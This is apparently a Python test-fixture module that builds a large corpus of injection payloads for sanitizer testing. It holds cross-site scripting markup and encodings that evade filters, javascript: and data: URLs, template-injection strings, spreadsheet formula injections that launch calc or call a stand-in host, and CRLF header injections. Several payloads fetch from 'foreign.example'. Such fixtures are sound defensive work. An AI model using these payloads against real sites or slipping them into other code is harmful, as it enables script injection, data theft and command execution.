"""Hostile strings of our own making: places they break out of × what they try × how they are written.

Whatever runs says so through `window.__x`, a dialog, or a request to a foreign host; the tests look for all three.
"""

from collections.abc import Callable, Iterator
from html import escape
from itertools import cycle
from urllib.parse import quote

FOREIGN = "foreign.example"
FLAG = "window.__x=1"
_CALLS = (FLAG, "alert(1)", f"fetch('//{FOREIGN}/f')", "top.__x=parent.__x=self.__x=1", "document.title='__x'")

CONTEXTS = (
    "",
    '">',
    "'>",
    "`>",
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "</a></p></article>",
    "</text></svg>",
    "</option></select>",
    "</noscript></template>",
    "*/}</style>",
    "\\\";'//\n",
)
"""What ends the place a string is put in."""

_ELEMENTS = (
    "<script>{js}</script>",
    "<script src=//{host}/s.js></script>",
    '<script type=module>import"//{host}/m.js"</script>',
    "<img src=x onerror={js}>",
    "<img src=//{host}/i.png>",
    "<img srcset='//{host}/a 1x'>",
    "<picture><source srcset=//{host}/b><img></picture>",
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><image href=//{host}/c /></svg>",
    "<svg><use href='//{host}/d#e'/></svg>",
    "<svg><a href=javascript:{js}><text y=9>w</text></a></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:{js}></svg>",
    "<svg><foreignObject><iframe src=//{host}/g></iframe></foreignObject></svg>",
    "<math><mtext><style><img src=x onerror={js}></style></mtext></math>",
    "<math href=javascript:{js}>w</math>",
    "<body onload={js}>",
    "<body background=//{host}/h>",
    "<details open ontoggle={js}>w</details>",
    "<input autofocus onfocus={js}>",
    "<input type=image src=//{host}/j>",
    "<button popovertarget=q onclick={js}>w</button><i id=q popover onbeforetoggle={js}>w</i>",
    "<select autofocus onfocus={js}><option>w</select>",
    "<video src=//{host}/k onerror={js}></video>",
    "<video poster=//{host}/l></video>",
    "<audio src=x onerror={js}></audio>",
    "<video><track default src=//{host}/m></video>",
    "<iframe src=javascript:{js}></iframe>",
    "<iframe srcdoc='<script>{js}</script>'></iframe>",
    "<iframe src=//{host}/n></iframe>",
    "<frameset onload={js}><frame src=//{host}/o></frameset>",
    "<object data=//{host}/p></object>",
    "<object data='data:text/html,<script>{js}</script>'></object>",
    "<embed src=//{host}/q>",
    "<a href=javascript:{js}>w</a>",
    "<a ping=//{host}/r href=#>w</a>",
    "<form action=javascript:{js}><button>w</button></form>",
    "<form action=//{host}/t><input name=a></form>",
    "<button formaction=javascript:{js}>w</button>",
    "<meta http-equiv=refresh content='0;url=//{host}/u'>",
    "<meta http-equiv=refresh content='0;url=javascript:{js}'>",
    "<meta http-equiv=Content-Security-Policy content='script-src *'>",
    "<base href=//{host}/>",
    "<link rel=stylesheet href=//{host}/v.css>",
    "<link rel=prefetch href=//{host}/w>",
    "<link rel=dns-prefetch href=//{host}>",
    "<link rel=preload as=image href=//{host}/y>",
    "<link rel=icon href=//{host}/z>",
    "<link rel=manifest href=//{host}/aa>",
    "<style>@import'//{host}/ab.css';</style>",
    "<style>*{{background:url(//{host}/ac)}}</style>",
    "<p style=background:url(//{host}/ad)>w</p>",
    "<p style=animation:a onanimationstart={js}>w</p>",
    "<marquee onstart={js}>w</marquee>",
    "<table background=//{host}/ae><tr><td>w</table>",
    "<custom-a onpointerover={js} tabindex=1>w</custom-a>",
    "<template shadowrootmode=open><script>{js}</script></template>",
    "<noscript><img src=//{host}/af></noscript>",
    "<?xml-stylesheet href='//{host}/ag.css'?>",
    "<!ENTITY xx SYSTEM '//{host}/ah'>&xx;",
    "<![CDATA[<script>{js}</script>]]>",
    "<!--><script>{js}</script>-->",
    "<a href='' onmouseover={js} autofocus onfocus={js} tabindex=0>w</a>",
)

_ATTRIBUTES = (
    '" autofocus tabindex=0 onfocus="{js}',
    "' autofocus tabindex=0 onfocus='{js}",
    '" style="background:url(//{host}/ai)',
    '" onload="{js}" x="',
    " onerror={js} ",
    '"/><script>{js}</script><i x="',
    '" href="javascript:{js}',
    '" src="//{host}/aj',
    '" formaction="javascript:{js}" type="submit',
    '" ping="//{host}/ak',
)
"""What adds to the tag a string stands in."""

_SCRIPTS = (
    "';{js};//",
    '";{js};//',
    "`;{js};//",
    "${{{js}}}",
    "{{{{7*7}}}}{{{{constructor.constructor('{js}')()}}}}",
    "{{% print(7*7) %}}{{{{ cycler.__init__.__globals__ }}}}",
    "<%= {js} %>",
    "#{{{js}}}",
    "}}}};{js};{{{{",
    "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
)
"""What breaks out of a string in a script, or out of a template."""

_SCHEMES = (
    "javascript:{js}",
    "JaVaScRiPt:{js}",
    " javascript:{js}",
    "\x01javascript:{js}",
    "java\tscript:{js}",
    "java\nscript:{js}",
    "java\r\nscript:{js}",
    "javascript&colon;{js}",
    "javascript\u200b:{js}",
    "javascript://x/%0a{js}",
    "javascript:/*//{host}*/{js}",
    "javascript:\\u0061lert(1)",
    "vbscript:{js}",
    "livescript:{js}",
    "data:text/html,<script>{js}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194PTE8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{js}'/>",
    "data:application/xhtml+xml,<html xmlns='http://www.w3.org/1999/xhtml'><script>{js}</script></html>",
    "blob:http://{host}/0",
    "filesystem:http://{host}/x",
    "view-source:http://{host}/",
    "file:///etc/passwd",
    "feed:javascript:{js}",
    "jar:http://{host}!/x",
    "about:blank#{js}",
    "http://javascript:{js}@",
    "https:javascript:{js}",
    'http://{host}/"><script>{js}</script>',
    "https://{host}/' onmouseover='{js}",
    'http://[::1"><img src=x onerror={js}>',
    "http://{host}/\r\nSet-Cookie: x=1",
    "\u2028javascript:{js}",
)
"""Addresses that are none to follow."""

_FORMULAS = (
    '=HYPERLINK("http://{host}/","w")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=IMPORTXML("http://{host}/","//a")',
    "＝1+1",
    " =1+1",
    "\u200b=1+1",
)
"""What a spreadsheet would work out."""

_HEADERS = (
    "x\r\nBcc: all@{host}",
    "x\nSubject: w",
    "x\r\n\r\n<script>{js}</script>",
    "x%0d%0aSet-Cookie: a=b",
    "x\u2028Location: //{host}",
    "x\x00\x0b\x0cy",
    '"; filename="w.exe',
    "=?utf-8?q?=0d=0aBcc=3a_all=40{host}?=",
)
"""What would begin a header of its own."""


def _spaced(text: str) -> str:
    return text.replace(" ", "\t\n", 1).replace("=", " = ", 1) if text.startswith("<") else text


def _slashed(text: str) -> str:
    return text.replace(" ", "/", 1) if text.startswith("<") else text


def _mixed(text: str) -> str:
    return "".join(c.upper() if n % 2 else c for n, c in enumerate(text)) if "__x" not in text else text.replace("script", "sCrIpT")


ENCODINGS: tuple[Callable[[str], str], ...] = (
    _mixed,
    _spaced,
    _slashed,
    escape,
    lambda text: escape(escape(text)),
    lambda text: "".join(f"&#{ord(c)}" for c in text[:40]),
    lambda text: "".join(f"&#x{ord(c):06x};" for c in text[:40]),
    lambda text: quote(text, safe=""),
    lambda text: quote(quote(text, safe=""), safe=""),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace("<", "<\u200d"),
    lambda text: text.replace("<", "\\x3c").replace(">", "\\x3e"),
    lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
    lambda text: f"\u202e{text}\u202c",
    lambda text: text.replace("<", "<<").replace(">", ">>"),
    lambda text: text.removesuffix(">"),
)
"""How it is written."""


def _filled(patterns: tuple[str, ...]) -> Iterator[str]:
    calls = cycle(_CALLS)
    for pattern in patterns:
        yield pattern.format(js=next(calls), host=FOREIGN)


def elements() -> list[str]:
    """Markup, out of every place, and in every writing."""
    plain = list(_filled(_ELEMENTS))
    contexts, encodings = cycle(CONTEXTS), cycle(ENCODINGS)
    out = [f"{context}{text}" for n, context in enumerate(CONTEXTS) for text in plain[n % 4 :: 4]]
    written = [f"{next(contexts)}{next(encodings)(text)}" for text in plain for _ in range(4)]
    return list(dict.fromkeys([*plain, *out, *written]))


def addresses() -> list[str]:
    """Addresses nobody should be led to."""
    return list(_filled(_SCHEMES))


def formulas() -> list[str]:
    """Cells a spreadsheet would work out."""
    return list(_filled(_FORMULAS))


def headers() -> list[str]:
    """Values that would end a header and begin another."""
    return list(_filled(_HEADERS))


def payloads() -> list[str]:
    """All of them, each once."""
    inner = [*_filled(_ATTRIBUTES), *_filled(_SCRIPTS)]
    return list(dict.fromkeys([*elements(), *inner, *addresses(), *formulas(), *headers()]))
